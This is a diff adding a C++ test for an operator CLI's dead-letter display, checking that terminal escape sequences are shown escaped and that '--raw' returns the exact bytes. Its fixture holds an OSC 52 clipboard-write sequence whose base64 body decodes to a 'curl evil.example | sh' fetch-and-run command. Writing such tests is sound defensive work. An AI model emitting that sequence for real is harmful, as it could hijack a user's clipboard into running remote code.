@@ -427,6 +427,31 @@ TEST_F(OperatorCli, DeadLettersListShowReplayDiscard) {
   EXPECT_EQ(letters()["letters"].size(), 3u);
 }
 
+// A letter's bytes came from whoever wrote to the topic: an OSC 52 sequence (which makes many
+// terminals write the clipboard) is shown escaped, never as ESC ... BEL; --raw gives the bytes.
+TEST_F(OperatorCli, DeadLetterShowEscapesTerminalSequencesAndRawGivesTheBytes) {
+  ASSERT_NO_FATAL_FAILURE(start());
+  const std::string hostile = "not json \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07 \x1b[2J\xc2\x9b tail";
+  append({hostile});
+  nlohmann::json all;
+  ASSERT_TRUE(wait_until([&] { return (all = letters())["letters"].size() >= 1; }, 30s)) << run_->err();
+  const std::string id = all["letters"][0]["id"].dump();
+  for (const auto& args : std::vector<std::vector<std::string>>{{"dead-letters", "show", id}, {"dead-letters", "list"}}) {
+    auto shown = cli(args);
+    ASSERT_EQ(shown.code, 0) << shown.err;
+    EXPECT_EQ(shown.out.find('\x1b'), std::string::npos) << args[1] << ": " << shown.out;
+    EXPECT_EQ(shown.out.find('\x07'), std::string::npos) << args[1] << ": " << shown.out;
+    EXPECT_EQ(shown.out.find("\xc2\x9b"), std::string::npos) << args[1] << ": " << shown.out;  // C1 CSI
+  }
+  auto show = cli({"dead-letters", "show", id});
+  EXPECT_NE(show.out.find("payload:\nnot json \\x1B]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\\x07 \\x1B[2J"),
+            std::string::npos)
+      << show.out;
+  auto raw = cli({"dead-letters", "show", id, "--raw"});
+  ASSERT_EQ(raw.code, 0) << raw.err;
+  EXPECT_EQ(raw.out, hostile);
+}
+
 TEST_F(OperatorCli, ReloadAppliesAnEditAndRejectsABrokenOneWithItsPlace) {
   ASSERT_NO_FATAL_FAILURE(start());
   write_file(dir_ / "p.yaml", pipeline({.max_bytes = "65536", .rest_extra = ""}));
